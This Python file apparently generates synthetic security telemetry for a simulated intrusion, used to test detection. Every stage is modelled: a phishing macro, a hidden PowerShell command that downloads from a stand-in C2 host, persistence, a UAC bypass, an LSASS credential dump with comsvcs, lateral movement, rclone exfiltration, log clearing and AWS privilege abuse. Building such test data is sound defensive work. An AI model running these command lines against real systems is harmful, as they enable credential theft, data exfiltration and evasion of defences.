"""Playbook: a phished workstation, stolen credentials, the file server, then the cloud account."""

from __future__ import annotations

from sentree.evals.generate import audit, cloud, network, windows
from sentree.evals.generate.emission import Emission
from sentree.evals.generate.story import POWERSHELL_EXE, SYSTEM32, Story, encoded
from sentree.evals.generate.windows import Process
from sentree.evals.generate.world import DOMAIN_SID, MILLISECOND, MINUTE, SECOND, SYSTEM

_C2_NAME, _C2_IP = "cdn-metrics.example.net", "203.0.113.66"
_DROP_NAME, _DROP_IP = "storage-gw.example.org", "203.0.113.140"
_CLOUD_IP = "203.0.113.201"
_AGENT = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)"


def phishing(story: Story) -> None:
    """Tell the whole story."""
    implant = _foothold(story)
    _beacons(story, implant)
    _look_around(story, implant)
    _stay(story, implant)
    _credentials(story, implant)
    _spread(story, implant)
    _steal(story)
    _cloud(story)
    story.plant("ip", _C2_IP, _DROP_IP, _CLOUD_IP)
    story.plant("domain", _C2_NAME, _DROP_NAME)
    story.plant("user_agent", _AGENT)
    story.plant("account", "svc.telemetry")


def _foothold(story: Story) -> Process:
    world, rng = story.world, story.rng
    host = world.workstations[0]
    user = world.owner(host)
    office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
    home = f"C:\\Users\\{user.name}"
    lure = (
        f"{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
        "Q7ZK2M1P\\Invoice_88412.docm"
    )
    payload = f"{home}\\AppData\\Roaming\\msedgeupd.exe"
    url = f"http://{_C2_NAME}/static/update.bin"
    story.plant("file", lure, payload)
    story.plant("url", url)

    story.scene(0, 9, 40)
    outlook = windows.running(rng, host, user, office + "OUTLOOK.EXE")
    opened = windows.file_created(story.now, rng, outlook, lure)
    story.deed(
        "T1566.001", "initial-access", host, user,
        "A mail attachment with macros is saved by Outlook.", [opened],
    )  # fmt: skip
    story.wait(20, 60)
    word, records = story.run(outlook, office + "WINWORD.EXE", f'"{office}WINWORD.EXE" /n "{lure}"')
    story.deed("T1204.002", "execution", host, user, "The user opens the document.", records)
    story.wait(8, 20)
    script = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
    shell, records = story.run(
        word, POWERSHELL_EXE, f"powershell.exe -nop -w hidden -enc {encoded(script)}"
    )
    records.append(audit.script_block(story.later(400), rng, shell, script))
    story.deed(
        "T1059.001", "execution", host, user,
        "Word starts a hidden PowerShell with an encoded command.", records,
    )  # fmt: skip
    story.wait(1, 3)
    story.deed(
        "T1105", "command-and-control", host, user,
        "PowerShell fetches a program and writes it to the profile.",
        [
            windows.connection(story.now, rng, shell, _C2_IP, 80, _C2_NAME),
            network.http(
                story.later(30), rng, host, _C2_IP, _C2_NAME, "/static/update.bin", _AGENT,
                received=412_160, mime="application/x-dosexec",
            ),
            windows.file_created(story.later(900), rng, shell, payload),
        ],
        network.dns(story.later(-40), rng, host, world.dc, _C2_NAME, _C2_IP),
    )  # fmt: skip
    story.wait(3, 8)
    implant, records = story.run(shell, payload, f'"{payload}" -k netsvc')
    story.deed(
        "T1036.005", "defense-evasion", host, user,
        "The program runs from the roaming profile under the name of an updater.", records,
    )  # fmt: skip
    return implant


def _beacons(story: Story, implant: Process) -> None:
    world, rng, host = story.world, story.rng, implant.host
    story.wait(1, 4)
    first = [
        windows.dns_query(story.now, rng, implant, _C2_NAME, _C2_IP),
        windows.connection(story.later(60), rng, implant, _C2_IP, 80, _C2_NAME),
        _beacon(story, story.later(90), implant),
    ]
    more: list[Emission] = []
    end = story.moment(2, 3)
    time = story.now
    while (time := time + 10 * MINUTE + rng.randrange(-20, 20) * SECOND) < end:
        more += network.dns(time, rng, host, world.dc, _C2_NAME, _C2_IP)
        more.append(windows.connection(time + 50 * MILLISECOND, rng, implant, _C2_IP, 80))
        more.append(_beacon(story, time + 80 * MILLISECOND, implant))
    story.deed(
        "T1071.001", "command-and-control", host, implant.user,
        "The program calls its server over HTTP, then every ten minutes.", first, more,
    )  # fmt: skip


def _beacon(story: Story, time: int, implant: Process) -> Emission:
    return network.http(
        time, story.rng, implant.host, _C2_IP, _C2_NAME, "/api/v2/ping", _AGENT,
        method="POST", sent=story.rng.randrange(180, 260), received=48,
        mime="application/octet-stream",
    )  # fmt: skip


def _look_around(story: Story, implant: Process) -> None:
    user = implant.user
    shell = SYSTEM32 + "cmd.exe"
    story.scene(0, 10, 25)
    for technique, image, line, what in (
        ("T1033", "whoami.exe", "whoami /all", "Own identity and privileges are listed."),
        ("T1016", "ipconfig.exe", "ipconfig /all", "The network configuration is listed."),
        (
            "T1069.002",
            "net.exe",
            'net group "Domain Admins" /domain',
            "The members of Domain Admins are listed.",
        ),
        ("T1482", "nltest.exe", "nltest /domain_trusts /all_trusts", "Domain trusts are listed."),
    ):
        story.wait(12, 50)
        cmd, wrapped = story.run(implant, shell, f"cmd.exe /c {line}")
        story.now += 20 * MILLISECOND
        _, records = story.run(cmd, SYSTEM32 + image, line)
        story.deed(technique, "discovery", implant.host, user, what, records, wrapped)


def _stay(story: Story, implant: Process) -> None:
    rng, user = story.rng, implant.user
    run = f"HKU\\{user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\EdgeUpdater"
    story.scene(0, 10, 50)
    line = (
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v EdgeUpdater "
        f'/t REG_SZ /d "{implant.image}" /f'
    )
    reg, records = story.run(implant, SYSTEM32 + "reg.exe", line)
    records.append(windows.registry_set(story.later(25), rng, reg, run, implant.image))
    story.deed(
        "T1547.001", "persistence", implant.host, user,
        "A Run key starts the program at logon.", records,
    )  # fmt: skip
    story.wait(40, 90)
    line = f'schtasks /create /sc minute /mo 30 /tn "EdgeTelemetry" /tr "{implant.image}" /f'
    tool, records = story.run(implant, SYSTEM32 + "schtasks.exe", line)
    records.append(audit.task_created(story.later(70), tool, "EdgeTelemetry", implant.image, ""))
    story.deed(
        "T1053.005", "persistence", implant.host, user,
        "A scheduled task starts the program every half hour.", records,
    )  # fmt: skip


def _credentials(story: Story, implant: Process) -> None:
    rng, host, user = story.rng, implant.host, implant.user
    story.scene(0, 14, 5)
    key = f"HKU\\{user.sid}_Classes\\ms-settings\\shell\\open\\command\\(Default)"
    bypass = [windows.registry_set(story.now, rng, implant, key, implant.image)]
    story.now += 700 * MILLISECOND
    helper, started = story.run(implant, SYSTEM32 + "fodhelper.exe", "fodhelper.exe")
    story.now += 300 * MILLISECOND
    elevated, more = story.run(helper, implant.image, f'"{implant.image}"')
    story.deed(
        "T1548.002", "privilege-escalation", host, user,
        "User Account Control is passed by way of fodhelper.", bypass + more, started,
    )  # fmt: skip
    story.wait(20, 60)
    script = "Set-MpPreference -DisableRealtimeMonitoring $true"
    shell, records = story.run(elevated, POWERSHELL_EXE, f"powershell.exe -c {script}")
    records.append(audit.script_block(story.later(350), rng, shell, script))
    story.deed(
        "T1562.001", "defense-evasion", host, user,
        "Defender's real-time protection is turned off.", records,
    )  # fmt: skip
    story.wait(30, 90)
    lsass = windows.running(rng, host, SYSTEM, SYSTEM32 + "lsass.exe")
    dump = "C:\\ProgramData\\diag.bin"
    line = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {dump} full"
    tool, records = story.run(elevated, SYSTEM32 + "rundll32.exe", line)
    trace = (
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c03e|"
        "C:\\Windows\\System32\\comsvcs.dll+28f5a|C:\\Windows\\System32\\dbgcore.dll+6ed6"
    )
    records.append(windows.process_access(story.later(120), rng, tool, lsass, "0x1fffff", trace))
    title = "Credential dumping from LSASS memory"
    finding = cloud.detection_finding(story.later(4200), rng, host, user, title, "T1003.001", 4)
    story.plant("file", dump)
    story.deed(
        "T1003.001", "credential-access", host, user,
        "The memory of LSASS is dumped with comsvcs.", [*records, finding],
        [windows.file_created(story.later(200), rng, tool, dump)],
    )  # fmt: skip


def _spread(story: Story, implant: Process) -> None:
    world, rng, source = story.world, story.rng, implant.host
    admin, server = world.admin, world.file_server
    story.scene(1, 1, 30)
    logon_id, entry = audit.logon(story.now, rng, server, admin, 3, source)
    story.deed(
        "T1021.002", "lateral-movement", server, admin,
        "A program is copied to the file server's administrative share.",
        [
            audit.share_access(
                story.later(40), server, admin, source, "ADMIN$", "Temp\\wmihost.exe", "0x2"
            ),
            network.smb_file(
                story.later(48), rng, source, server, "WRITE", "ADMIN$", "Temp\\wmihost.exe", 96_256
            ),
        ],
        [entry, audit.special_logon(story.later(1), server, admin, logon_id)],
    )  # fmt: skip
    story.wait(3, 9)
    services = windows.running(rng, server, SYSTEM, SYSTEM32 + "services.exe")
    path = "C:\\Windows\\Temp\\wmihost.exe"
    story.plant("file", path)
    installed = audit.service_installed(
        story.now, server, "WmiHostSvc", "%SystemRoot%\\Temp\\wmihost.exe", admin
    )
    story.now += 180 * MILLISECOND
    remote, records = story.run(services, path, path)
    story.deed(
        "T1569.002", "execution", server, SYSTEM,
        "A new service runs the copied program on the file server.", [installed, *records],
    )  # fmt: skip

    story.wait(600, 900)
    line = f'wmic /node:"{world.dc.name}" process call create "cmd.exe /c net user"'
    local, records = story.run(remote, SYSTEM32 + "wbem\\WMIC.exe", line)
    del local
    story.now += 350 * MILLISECOND
    provider = windows.running(
        rng, world.dc, SYSTEM, SYSTEM32 + "wbem\\WmiPrvSE.exe", "wmiprvse.exe -secured -Embedding"
    )
    shell, more = story.run(provider, SYSTEM32 + "cmd.exe", "cmd.exe /c net user", user=admin)
    story.deed(
        "T1047", "execution", world.dc, admin,
        "WMI starts a command shell on the domain controller.", records + more,
    )  # fmt: skip
    story.wait(30, 80)
    line = "net user svc.telemetry Zq8-Tundra-41 /add /domain"
    tool, records = story.run(shell, SYSTEM32 + "net.exe", line)
    records.append(
        audit.account_created(story.later(90), tool, "svc.telemetry", f"{DOMAIN_SID}-2210")
    )
    story.deed("T1136.002", "persistence", world.dc, admin, "A domain account is created.", records)


def _steal(story: Story) -> None:
    world, rng, server = story.world, story.rng, story.world.file_server
    story.scene(1, 22, 10)
    shell = windows.running(rng, server, SYSTEM, SYSTEM32 + "cmd.exe", "cmd.exe")
    archive = "C:\\ProgramData\\cache\\t1.rar"
    story.plant("file", archive)
    line = f"C:\\ProgramData\\cache\\rar.exe a -r -m1 -hpW1nter-9 {archive} D:\\Team\\Finance"
    tool, records = story.run(shell, "C:\\ProgramData\\cache\\rar.exe", line)
    records.append(windows.file_created(story.later(2500), rng, tool, archive))
    story.deed(
        "T1560.001", "collection", server, SYSTEM,
        "Files are packed into an encrypted archive.", records,
    )  # fmt: skip
    story.scene(2, 2, 10)
    line = "rclone.exe copy C:\\ProgramData\\cache remote:drop --transfers 8 --no-check-certificate"
    tool, records = story.run(shell, "C:\\ProgramData\\cache\\rclone.exe", line)
    records += [
        windows.connection(story.later(900), rng, tool, _DROP_IP, 443, _DROP_NAME),
        network.conn(
            story.later(905), rng, server, _DROP_IP, 443, duration=1840.5,
            sent=3_650_000_000, received=2_400_000,
        ),
    ]  # fmt: skip
    story.deed(
        "T1567.002", "exfiltration", server, SYSTEM,
        "rclone sends the archive to storage outside.", records,
        network.dns(story.later(700), rng, server, world.dc, _DROP_NAME, _DROP_IP),
    )  # fmt: skip
    story.scene(2, 2, 50)
    tool, records = story.run(shell, SYSTEM32 + "wevtutil.exe", "wevtutil cl Security")
    records.append(audit.log_cleared(story.later(60), tool))
    story.deed(
        "T1070.001", "defense-evasion", server, SYSTEM, "The Security log is cleared.", records
    )


def _cloud(story: Story) -> None:
    rng, user = story.rng, "cloud.ops"
    where = "aws:111122223333"
    agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
    iam, key = "iam.amazonaws.com", "AKIAEXAMPLE0STOLEN01"
    story.plant("key", key)
    story.scene(2, 3, 30)
    story.deed(
        "T1078.004", "initial-access", where, user,
        "Console sign-in without a second factor from a new address.",
        [
            cloud.api_call(
                story.now, rng, "ConsoleLogin", "signin.amazonaws.com", user, _CLOUD_IP, agent,
                response={"ConsoleLogin": "Success"}, mfa=False,
            )
        ],
        [cloud.sign_in(story.later(-3000), rng, user, _CLOUD_IP, success=True, factor=None)],
    )  # fmt: skip
    policy = "arn:aws:iam::aws:policy/AdministratorAccess"
    trail = "arn:aws:cloudtrail:us-east-1:111122223333:trail/main"
    for technique, tactic, name, source, request, what in (
        (
            "T1098.001", "persistence", "CreateAccessKey", iam,
            {"userName": "deploy.bot"}, "An access key is made for another user.",
        ),
        (
            "T1098.003", "privilege-escalation", "AttachUserPolicy", iam,
            {"userName": "deploy.bot", "policyArn": policy}, "Administrator rights are attached.",
        ),
        (
            "T1562.008", "defense-evasion", "StopLogging", "cloudtrail.amazonaws.com",
            {"name": trail}, "The audit trail is stopped.",
        ),
    ):  # fmt: skip
        story.wait(40, 160)
        response: dict[str, object] | None = None
        if name == "CreateAccessKey":
            made = {"userName": "deploy.bot", "accessKeyId": key, "status": "Active"}
            response = {"accessKey": made}
        call = cloud.api_call(
            story.now, rng, name, source, user, _CLOUD_IP, agent,
            request=dict(request), response=response, mfa=False, key="ASIAEXAMPLE0CONSOLE1",
        )  # fmt: skip
        story.deed(technique, tactic, where, user, what, [call])
